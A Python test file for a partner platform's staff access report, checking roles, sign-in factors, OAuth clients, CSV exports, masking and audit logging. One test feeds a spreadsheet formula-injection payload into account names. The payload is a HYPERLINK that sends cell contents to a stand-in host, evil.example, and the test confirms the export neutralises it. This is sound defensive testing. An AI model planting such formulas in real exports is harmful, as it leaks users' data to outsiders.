"""Who can do what, and which programs can: on a page, over the API and as a file."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import event, select

from core.audit.models import AuditEntry
from core.sheets import MARK
from partners.accounts import Account
from partners.accounts.services.sessions import start_session
from partners.factors.models import Passkey, RecoveryCode
from partners.oauth.models import ClientSecret
from partners.organisations import Kind
from partners.staff import Role, Seat
from partners.staff.report.people import BY_SEAT, live_seats, show_people
from partners.staff.services.seats import change_roles
from tests.factories import (
    authorization,
    make_account,
    make_authenticator,
    make_client,
    make_organisation,
    make_seat,
    make_token,
)

PAGE = "/partner/kursus-maju/staff/access"
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Ani")'


@pytest.fixture
def organisation(session):
    return make_organisation(session, name="Kursus Maju", code="kursus-maju")


@pytest.fixture
def owner(session, organisation) -> Seat:
    account = make_account(session, full_name="Dewi Ayu", email="dewi@example.org")
    return make_seat(session, organisation, account_id=account.id)


@pytest.fixture
def operator(session):
    return make_organisation(session, Kind.OPERATOR, code="pengelola")


@pytest.fixture
def auditor(session, operator) -> Seat:
    return make_seat(session, operator, Role.AUDITOR)


@pytest.fixture
def console(session, client, operator):
    """Calls as a person through the programme's console."""

    def call(seat: Seat, address: str):
        program = make_client(session, operator, ["staff:act"], name="Console")
        account = session.get_one(Account, seat.account_id)
        bearer = make_token(session, program, account)
        return client.get(address, headers=authorization(bearer))

    return call


def own(organisation, what: str) -> str:
    return f"/v1/organisations/{organisation.id}/access-report/{what}"


def opened(response) -> list[dict[str, str]]:
    """A file as an independent reader has it."""
    assert response.mimetype == "text/csv"
    text = response.data.decode("utf-8")
    assert text.startswith(MARK)
    return list(csv.DictReader(io.StringIO(text.removeprefix(MARK), newline="")))


def readings(session) -> list[AuditEntry]:
    return session.scalars(
        select(AuditEntry).where(AuditEntry.action == "staff.access_read")
    ).all()


def test_feature_27_an_owner_reads_who_has_which_role_since_when_and_by_whom(
    session, organisation, owner, console
):
    moment = datetime.now(UTC)
    person = make_account(session, full_name="Budi", email="budi@example.org")
    seat = make_seat(
        session,
        organisation,
        Role.CATALOGUE,
        account_id=person.id,
        appointed_by=owner.account_id,
    )
    change_roles(
        session,
        organisation,
        seat.id,
        roles=[Role.FINANCE],
        by=owner.account_id,
        at=moment,
    )

    first, second = console(owner, own(organisation, "people")).json["items"]

    assert first["full_name"] == "Dewi Ayu"
    assert first["given_by"] is None
    assert first["roles_since"] == first["appointed_at"]
    assert second["email"] == "b•••@example.org"
    assert second["roles"] == ["finance"]
    assert second["given_by"] == "Dewi Ayu"
    assert datetime.fromisoformat(second["roles_since"]) == moment
    assert second["last_signed_in_at"] is None
    assert second["unused"] is True


def test_factors_and_sessions_are_counted_and_none_is_told(
    session, organisation, owner, console
):
    account = session.get_one(Account, owner.account_id)
    moment = datetime.now(UTC)
    make_authenticator(session, account)
    for number in range(3):
        session.add(
            RecoveryCode(
                account_id=account.id,
                code_hash=bytes([number]) * 32,
                created_at=moment,
                used_at=moment if number == 0 else None,
            )
        )
    session.add(
        Passkey(
            account_id=account.id,
            credential_id=b"credential",
            public_key=b"key",
            sign_count=0,
            copied=False,
            name_sealed=b"sealed",
            created_at=moment,
        )
    )
    start_session(session, account_id=account.id, at=moment)
    start_session(session, account_id=account.id, at=moment - timedelta(days=2))
    session.flush()

    answer = console(owner, own(organisation, "people"))

    (line,) = answer.json["items"]
    found = {
        name: line[name]
        for name in ("authenticator", "passkeys", "recovery_codes_left")
    }
    assert found == {"authenticator": True, "passkeys": 1, "recovery_codes_left": 2}
    assert line["open_sessions"] == 1
    assert line["unused"] is False
    assert "credential" not in answer.text


def test_programs_are_shown_with_scopes_ages_and_last_use(
    session, organisation, owner, console
):
    moment = datetime.now(UTC)
    program = make_client(
        session, organisation, ["catalog:read"], name="Toko", last_used_at=moment
    )
    for age in (400, 3):
        session.add(
            ClientSecret(
                client_id=program.id,
                secret_hash=b"x" * 32,
                hint="abcd",
                created_at=moment - timedelta(days=age),
            )
        )
    session.add(
        ClientSecret(
            client_id=program.id,
            secret_hash=b"y" * 32,
            created_at=moment - timedelta(days=900),
            revoked_at=moment,
        )
    )
    session.flush()

    (line,) = console(owner, own(organisation, "clients")).json["items"]

    assert (line["name"], line["scopes"]) == ("Toko", ["catalog:read"])
    assert (line["secrets"], line["secret_age_days"]) == (2, 400)
    assert datetime.fromisoformat(line["last_used_at"]) == moment
    assert "abcd" not in str(line)


def test_sc_08_hostile_names_are_no_formulas_in_the_files(
    session, organisation, owner, console
):
    person = make_account(session, full_name=HOSTILE, email="+cmd@example.org")
    make_seat(session, organisation, Role.FINANCE, account_id=person.id)
    make_client(session, organisation, ["catalog:read"], name="＝1+1")

    people = opened(console(owner, own(organisation, "people.csv")))
    programs = opened(console(owner, own(organisation, "clients.csv")))

    assert people[1]["full_name"] == "'" + HOSTILE
    assert people[1]["email"].startswith("'+•")
    assert people[1]["passkeys"] == "0"
    assert [line["name"] for line in programs] == ["'＝1+1"]
    cells = [cell for line in (*people, *programs) for cell in line.values()]
    assert [cell for cell in cells if cell[:1] in "=+-@＝" and cell] == []


def test_pages_and_files_say_the_same(session, organisation, owner, console):
    for number in range(4):
        person = make_account(session, full_name=f"Budi {number}")
        make_seat(session, organisation, Role.DELIVERY, account_id=person.id)
    address = own(organisation, "people")

    first = console(owner, f"{address}?limit=3").json
    rest = console(owner, f"{address}?limit=3&cursor={first['next_cursor']}").json
    names = [each["full_name"] for each in (*first["items"], *rest["items"])]

    assert names == ["Dewi Ayu", *(f"Budi {number}" for number in range(4))]
    assert rest["next_cursor"] is None
    file = opened(console(owner, f"{address}.csv"))
    assert [line["full_name"] for line in file] == names


def test_a_long_file_is_read_in_batches(
    session, organisation, owner, console, monkeypatch
):
    monkeypatch.setattr("partners.staff.report.reading.BATCH", 2)
    for _ in range(4):
        make_seat(session, organisation, Role.DELIVERY)

    file = opened(console(owner, own(organisation, "people.csv")))

    assert len({line["seat_id"] for line in file}) == 5


def test_however_many_there_are_it_takes_as_many_queries(session, organisation, at):
    def queries(seats: int) -> int:
        for _ in range(seats):
            make_seat(session, organisation, Role.DELIVERY)
        rows = session.execute(
            live_seats(organisation.id).order_by(*(key.column for key in BY_SEAT))
        ).all()
        counted = []
        engine = session.get_bind()

        def count(*_):
            counted.append(1)

        event.listen(engine, "after_cursor_execute", count)
        try:
            show_people(session, rows, at=at)
        finally:
            event.remove(engine, "after_cursor_execute", count)
        return len(counted)

    assert queries(1) == queries(30) == 5


def test_every_reading_is_on_the_record_without_names(
    session, organisation, owner, auditor, console
):
    console(owner, own(organisation, "people"))
    console(owner, own(organisation, "people.csv"))
    console(auditor, "/v1/access-report/people")

    first, file, everybody = readings(session)

    assert (first.object_id, first.after) == (
        str(organisation.id),
        {"report": "people", "lines": 1},
    )
    assert file.after == {"report": "people", "lines": None}
    assert everybody.object_id == "all"
    assert first.on_behalf_of == str(owner.account_id)


def test_an_auditor_reads_all_organisations_or_one(
    session, organisation, owner, auditor, console
):
    everybody = console(auditor, "/v1/access-report/people").json["items"]
    one = console(
        auditor, f"/v1/access-report/people?organisation_id={organisation.id}"
    )
    file = opened(console(auditor, "/v1/access-report/clients.csv"))

    codes = [each["organisation_code"] for each in everybody]
    assert codes == ["kursus-maju", "pengelola"]
    assert [each["full_name"] for each in one.json["items"]] == ["Dewi Ayu"]
    assert {line["name"] for line in file} == {"Console"}


@pytest.mark.parametrize(
    "address",
    [
        "/v1/access-report/people",
        "/v1/access-report/people.csv",
        "/v1/access-report/clients",
        "/v1/access-report/clients.csv",
    ],
)
def test_nobody_else_reads_all_organisations(
    session, owner, operator, console, address
):
    support = make_seat(session, operator, Role.SUPPORT)

    assert console(support, address).status_code == 403
    assert console(owner, address).status_code == 404
    assert readings(session) == []


def test_only_owners_read_their_organisations_report(session, organisation, console):
    finance = make_seat(session, organisation, Role.FINANCE)
    stranger = make_seat(session, make_organisation(session))

    assert console(finance, own(organisation, "people.csv")).status_code == 403
    assert console(stranger, own(organisation, "people.csv")).status_code == 404


def test_the_page_shows_the_same_and_leads_to_the_files(
    session, organisation, owner, browser_of
):
    make_client(session, organisation, ["catalog:read"], name="Toko Kita")
    browser = browser_of(owner)

    page = browser.get(PAGE)

    assert "Dewi Ayu" in page.text
    assert "d•••@example.org" in page.text
    assert "Toko Kita" in page.text
    assert f'href="{PAGE}/people.csv"' in page.text
    assert len(readings(session)) == 2
    assert opened(browser.get(f"{PAGE}/people.csv"))[0]["full_name"] == "Dewi Ayu"
    assert opened(browser.get(f"{PAGE}/clients.csv"))[0]["name"] == "Toko Kita"
    assert f'href="{PAGE}"' in browser.get("/partner/kursus-maju/staff").text


def test_an_auditor_s_page_asks_for_one_organisation_by_its_handle(
    session, organisation, owner, auditor, browser_of
):
    browser = browser_of(auditor)

    everybody = browser.get("/operator/access")
    one = browser.get("/operator/access?organisation=kursus-maju")

    assert "Dewi Ayu" in everybody.text
    assert "Budi Santoso" in everybody.text
    assert "Budi Santoso" not in one.text
    assert browser.get("/operator/access?organisation=nobody").status_code == 404
    file = browser.get("/operator/access/people.csv?organisation=kursus-maju")
    assert [line["full_name"] for line in opened(file)] == ["Dewi Ayu"]
    assert 'href="/operator/access"' in browser.get("/operator").text
